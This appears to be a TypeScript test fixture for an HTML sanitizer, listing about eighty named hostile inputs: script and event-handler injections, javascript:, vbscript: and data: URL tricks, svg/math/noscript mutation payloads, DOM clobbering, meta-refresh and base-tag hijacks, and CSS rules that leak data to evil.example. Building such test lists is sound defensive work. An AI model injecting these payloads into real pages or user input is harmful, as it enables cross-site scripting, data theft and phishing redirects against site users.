/** Hostile articles of our own, one trick each. What must not survive is checked the same way for all of them. */
export const ownAttacks: Readonly<Record<string, string>> = {
  'script in the middle of a word': 'ver<script>alert(1)</script>y',
  'script closed by a comment trick': '<script><!--<script></script>--><p>after</p>',
  'script with a slash for a space': '<script/x>alert(1)</script/x>',
  'svg script reopened':
    '<svg><script>alert(1)</script><a href="javascript:alert(2)"><text>x</text></a></svg>',
  'svg title as a way back to html': '<svg><title><img src=x onerror=alert(1)></title></svg>',
  'svg use of another document': '<svg><use href="https://evil.example/x.svg#a"/></svg>',
  'math with a link': '<math href="javascript:alert(1)"><mi href="javascript:alert(2)">x</mi></math>',
  'names every object knows':
    '<constructor>a<p constructor="b">c</p><math constructor="d"><mi mathvariant="constructor">e</mi></math></constructor>',
  'math alttext as markup': '<math alttext="<img src=x onerror=alert(1)>"></math>',
  'style that closes itself in an attribute': '<style><a title="</style><img src=x onerror=alert(1)>">',
  'noscript that closes in an attribute':
    '<img src="blank.gif"><noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  'noscript picture with handlers':
    '<img src="blank.gif"><noscript><img src="x.jpg" onerror="alert(1)" style="position:fixed"></noscript>',
  'template content': '<template><img src=x onerror=alert(1)></template>',
  'plaintext to the end': '<p>a</p><plaintext><img src=x onerror=alert(1)>',
  'noembed and noframes':
    '<noembed><img src=x onerror=alert(1)></noembed><noframes><p onclick=alert(1)></noframes>',
  'textarea breakout': '<textarea></textarea/><img src=x onerror=alert(1)></textarea>',
  'select hides a script': '<select><option><script>alert(1)</script></option></select>',
  'forged media address':
    '<img src="media://image/0000000000000000000000000000000000000000000000000000000000000000">',
  'forged media address with dots': '<img src="media://image/../../etc/passwd">',
  'forged card': '<blockquote class="social-post" data-network="Evil" onclick="alert(1)">x</blockquote>',
  'forged network name':
    '<blockquote class="twitter-tweet" data-network="&quot;><script>alert(1)</script>">x</blockquote>',
  'forged embed line': '<p class="embed" style="position:fixed"><a href="javascript:alert(1)">Video</a></p>',
  'forged anchor ids': '<p id="article-1">a</p><p id="article-1">b</p><a href="#article-1">c</a>',
  'anchor with markup in its id': '<a href="#%22%3E%3Cscript%3E">x</a><p id="&quot;><script>">y</p>',
  'clobbering by prototype names':
    '<a name="__proto__" href="#__proto__">x</a><p id="constructor">y</p><a href="#constructor">z</a>',
  'tab in the scheme': '<a href="java\tscript:alert(1)">x</a>',
  'null in the scheme': '<a href="java\0script:alert(1)">x</a>',
  'leading control characters': '<a href="\u0001\u0002 javascript:alert(1)">x</a>',
  'scheme in full width': '<a href="ｊavascript:alert(1)">x</a>',
  'vbscript and data': '<a href="vbscript:x">a</a><a href="data:text/html,<script>alert(1)</script>">b</a>',
  'view-source and intent':
    '<a href="view-source:https://x.example">a</a><a href="intent://x#Intent;end">b</a>',
  'app and chrome schemes':
    '<a href="app://broadsheet/index.html">a</a><a href="chrome://settings">b</a><a href="file:///etc/passwd">c</a>',
  'backslashes for slashes': '<a href="\\\\evil.example\\x">a</a><img src="/\\evil.example/x.png">',
  'user name as host': '<a href="https://bank.example@evil.example/">a</a>',
  'frame with srcdoc and src':
    '<iframe srcdoc="<script>alert(1)</script>" src="https://evil.example/x"></iframe>',
  'frame with a data document': '<iframe src="data:text/html,<script>alert(1)</script>"></iframe>',
  'frame inside a frame':
    '<iframe src="javascript:alert(1)"><iframe src="https://evil.example"></iframe></iframe>',
  'frame title as markup':
    '<iframe src="https://evil.example/" title="&quot;><script>alert(1)</script>"></iframe>',
  'object with a script address':
    '<object data="javascript:alert(1)"><param name="movie" value="javascript:alert(2)"></object>',
  'object fallback': '<object><img src=x onerror=alert(1)><script>alert(2)</script></object>',
  'video with a script poster': '<video poster="javascript:alert(1)" src="javascript:alert(2)"></video>',
  'video source with handlers': '<video><source onerror="alert(1)" src="https://x.example/a.mp4"></video>',
  'picture without an image': '<picture><source srcset="javascript:alert(1) 1x"></picture>',
  'srcset with a script': '<img srcset="javascript:alert(1) 1000w, data:text/html,x 2000w">',
  'lazy source with a script': '<img data-src="javascript:alert(1)" data-srcset="vbscript:x 1200w">',
  'data picture of the wrong kind': `<img src="data:image/svg+xml;base64,${'A'.repeat(400)}">`,
  'data picture with markup': `<img src="data:image/png;base64,${'A'.repeat(400)}&quot; onerror=&quot;alert(1)">`,
  'emoji text as markup':
    '<img class="emoji" alt="<b onclick=alert(1)>" src="https://s.w.org/images/core/emoji/x.png">',
  'telegram post as markup': '<script data-telegram-post="a/1&quot;><script>alert(1)</script>"></script>',
  'permalink with a script':
    '<blockquote class="instagram-media" data-instgrm-permalink="javascript:alert(1)">x</blockquote>',
  'image maps': '<img src="a.png" usemap="#m" ismap><map name="m"><area href="javascript:alert(1)"></map>',
  'background attribute':
    '<table background="https://evil.example/x.png"><tr><td background="https://evil.example/y.png">x</td></tr></table>',
  'cite and longdesc':
    '<blockquote cite="https://evil.example/x"><img src="a.png" longdesc="https://evil.example/y">q</blockquote>',
  'style in every spelling':
    '<p STYLE="background:url(https://evil.example)" Style=x>t</p><link rel="stylesheet" href="https://evil.example/x.css">',
  'class of the program': '<p class="toolbar dialog">x</p><div class="embed">y</div>',
  'popover and dialog':
    '<dialog open popover="auto" id="x">x</dialog><a popovertarget="x" href="https://x.example">y</a>',
  'autofocus and access keys':
    '<a href="https://x.example" autofocus accesskey="x" tabindex="0" contenteditable>y</a>',
  'open details with a handler':
    '<details open ontoggle="alert(1)"><summary onclick="alert(2)">x</summary>y</details>',
  'base and meta':
    '<base href="https://evil.example/"><meta http-equiv="refresh" content="0;url=https://evil.example"><a href="x">y</a>',
  'attribute soup': '<a href=https://x.example/"onmouseover="alert(1)>x</a><img src=`x`onerror=alert(1)>',
  'greater-than in an attribute name': '<p a<b>c="x">y</p><p =">" onclick=alert(1)>z</p>',
  'unclosed attribute at the end': '<p>ok</p><img src="x" alt="never closed onerror=alert(1)>',
  'entities that spell tags':
    '&lt;script&gt;alert(1)&lt;/script&gt;&amp;lt;img src=x onerror=alert(1)&amp;gt;',
  'conditional comment':
    '<!--[if IE]><script>alert(1)</script><![endif]--><![CDATA[<img src=x onerror=alert(1)>]]>',
  'processing instruction':
    '<?xml-stylesheet href="https://evil.example/x.xsl"?><!DOCTYPE html [<!ENTITY x "y">]>&x;',
  'nested links':
    '<a href="https://a.example"><a href="https://b.example"><a href="javascript:alert(1)">x</a></a></a>',
  'link around a player':
    '<a href="https://a.example"><p><iframe src="https://b.example/x"></iframe></p></a>',
  'language with quotes': '<p lang="en&quot; onclick=&quot;alert(1)" dir="rtl&quot; x=&quot;">x</p>',
  'figure background with a script':
    '<figure style="background:url(javascript:alert(1))"><figcaption>x</figcaption></figure>',
  'figure background that breaks out':
    '<figure style="background-image:url(\'https://evil.example/&quot;><script>alert(1)</script>\')"></figure>',
  'figure background of the app':
    '<figure style="background:url(app://broadsheet/index.html)"></figure><figure data-bg="file:///etc/passwd"></figure>',
  'figure of nothing but a noscript':
    '<figure><noscript><img src="javascript:alert(1)" onerror="alert(2)"></noscript></figure>',
  'delayed picture with a script':
    '<figure><div data-src="javascript:alert(1)//a.jpg" data-alt="&quot; onerror=&quot;alert(2)"></div></figure>',
  'srcset with parentheses around a script':
    '<img srcset="x.jpg (1w, javascript:alert(1) 2w), vbscript:x 1400w">',
  'width left open in a scheme': '<img data-src="java{width}script:alert(1)" data-widths="1,script">',
  'sources with handlers':
    '<picture onload="alert(1)"><source srcset="data:text/html,x 1400w" onerror="alert(2)"><img src="x.jpg" srcset="file:///etc/passwd 1400w"></picture>',
  'import in a style attribute':
    '<p style="@import url(https://evil.example/x.css);background-image:image-set(\'https://evil.example/y\' 1x)">x</p>',
  'style with a font':
    '<style>@font-face{font-family:x;src:url(https://evil.example/f.woff2)}*{font-family:x!important}</style><p>y</p>',
  'style that reads attributes':
    '<style>a[href^="https"]{background:url(https://evil.example/leak)}</style><a href="https://x.example">y</a>',
  'style over the window':
    '<div style="position:fixed;inset:0;z-index:9999">x</div><style>body{display:none}</style>',
  'svg picture with a filter of another site':
    '<svg><filter><feImage href="https://evil.example/x.png"/></filter><image href="https://evil.example/y.png"/></svg>',
  'svg style':
    '<svg><style>@import "https://evil.example/x.css";</style><foreignObject><iframe src="https://evil.example/"></iframe></foreignObject></svg>',
  'unicode line ends in an address': '<a href="https://x.example/\u2028alert(1)">x</a>',
};
